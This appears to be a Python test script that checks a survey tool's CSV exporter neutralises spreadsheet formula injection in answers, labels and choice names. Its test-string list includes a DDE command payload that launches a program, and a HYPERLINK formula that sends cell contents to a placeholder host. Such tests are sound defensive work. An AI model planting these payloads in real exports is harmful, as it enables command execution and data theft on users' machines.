#!/usr/bin/python3
# test-csv-roundtrip.py: hostile strings from participants (text
# answers) and from form authors (labels, choice names) go out through
# the exporter and come back unchanged through Python's csv module,
# except for the leading "'" that disarms a formula. Speaks TAP.

import csv
import io
import os
import re
import subprocess
import sys
import tempfile

# make check runs from the build directory and names the program there.
BUILD = os.path.dirname(os.environ.get("CONSULT",
                                       os.path.abspath("consult")))
TOOL = os.path.join(BUILD, "tests", "exports", "csv-tool")

HOSTILE = [
    "plain",
    'say "hi"',
    '"',
    '""',
    "a,b,c",
    ",",
    "two\nlines",
    "crlf\r\ninside",
    "\n",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
    "-2+3",
    "+1+1",
    "@SUM(1)",
    "\t=1+1",
    "\tleading tab",
    "\rcarriage return",
    "-5",
    "+3.2",
    "-0.125",
    "1e5",
    "-",
    "'already quoted",
    "caf\u00e9 na\u00efve \u00e0 \u00c9cole",
    "\u4e2d\u6587 \u65e5\u672c\u8a9e \ud55c\uad6d\uc5b4",
    "\U0001F5F3\ufe0f vote",
    "\u0645\u0631\u062d\u0628\u0627 "
    "\u0628\u0627\u0644\u0639\u0627\u0644\u0645",
    "\u05e9\u05dc\u05d5\u05dd \u05e2\u05d5\u05dc\u05dd",
    "\u202eevil\u202c override",
    "\u200f=1+2",
    "trailing space ",
    "  leading spaces",
    "semi;colon|pipe",
    "back\\slash",
]

NUMBER = re.compile(r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$")

results = []


def check(ok, what, detail=""):
    results.append((ok, what, detail))


def disarm(s):
    """What the exporter must write for s (SPEC.md: formula injection)."""
    if s and s[0] in "=+-@\t\r" and not NUMBER.match(s):
        return "'" + s
    return s


def run(form, fmt, question=None, values=()):
    args = [TOOL, form, fmt] + ([question] if question else [])
    data = b"\0".join(v.encode("utf-8") for v in values)
    p = subprocess.run(args, input=data, capture_output=True)
    if p.returncode != 0:
        raise RuntimeError(p.stderr.decode("utf-8", "replace"))
    return p.stdout


def rows(raw):
    text = raw.decode("utf-8")  # strict: fails on invalid UTF-8
    return list(csv.reader(io.StringIO(text, newline="")))


def write_form(path):
    """A form whose labels and choice names are hostile too."""
    labels = [s for s in HOSTILE if s.strip() == s and "\n" not in s
              and "\r" not in s and s]
    out = io.StringIO(newline="")
    w = csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\n")
    w.writerow(["survey", "", "", ""])
    w.writerow(["", "type", "name", "label"])
    w.writerow(["", "text", "comment", "=1+1 comment"])
    w.writerow(["", "select_one hostile", "pick", "@pick"])
    w.writerow(["choices", "", "", ""])
    w.writerow(["", "list_name", "name", "label"])
    for i, s in enumerate(labels):
        w.writerow(["", "hostile", "c%d" % i, s])
    with open(path, "w", encoding="utf-8", newline="") as f:
        f.write(out.getvalue())
    return labels


def test_text(form):
    raw = run(form, "text", "comment", HOSTILE)
    check(raw.endswith(b"\r\n"), "text: rows end with CRLF")
    got = rows(raw)
    check(got[0] == ["response_id", "question", "label", "text"],
          "text: header", repr(got[0]))
    answered = [s for s in HOSTILE if s != ""]
    check(len(got) == len(answered) + 1, "text: one row per answer",
          "%d rows" % len(got))
    for i, (row, s) in enumerate(zip(got[1:], answered)):
        check(row == ["r%d" % (i + 1), "comment", "'=1+1 comment",
                      disarm(s)], "text: %r round-trips" % s, repr(row))


def test_responses(form):
    got = rows(run(form, "responses", "comment", HOSTILE))
    col = got[0].index("comment")
    for row, s in zip(got[1:], HOSTILE):
        check(len(row) == len(got[0]) and row[col] == disarm(s),
              "responses: %r round-trips" % s, repr(row))


def test_labels(form, labels):
    got = rows(run(form, "codebook"))
    choices = [r for r in got[1:] if r[0] == "pick" and r[3] != ""]
    check(len(choices) == len(labels), "codebook: one row per choice",
          "%d" % len(choices))
    for row, s in zip(choices, labels):
        check(row[4] == disarm(s) and row[1] == "'@pick",
              "codebook: label %r round-trips" % s, repr(row))
    got = rows(run(form, "summary", "pick", ["c0", "c1", "c1"]))
    options = [r for r in got[1:] if r[1] == "pick" and r[4] != ""]
    for row, s in zip(options, labels):
        check(row[5] == disarm(s), "summary: label %r round-trips" % s,
              repr(row))
    check(options[1][7:9] == ["2", "66.7"], "summary: counts beside labels",
          repr(options[1]))


def main():
    with tempfile.TemporaryDirectory() as tmp:
        form = os.path.join(tmp, "hostile.csv")
        labels = write_form(form)
        for test in (test_text, test_responses):
            try:
                test(form)
            except Exception as e:  # report, do not stop the others
                check(False, test.__name__, str(e))
        try:
            test_labels(form, labels)
        except Exception as e:
            check(False, "test_labels", str(e))
    print("1..%d" % len(results))
    for i, (ok, what, detail) in enumerate(results, 1):
        what = what.encode("ascii", "backslashreplace").decode()
        print("%s %d - %s" % ("ok" if ok else "not ok", i, what))
        if not ok and detail:
            print("# " + detail.replace("\n", "\n# "))
    return 0 if all(ok for ok, _, _ in results) else 1


if __name__ == "__main__":
    sys.exit(main())
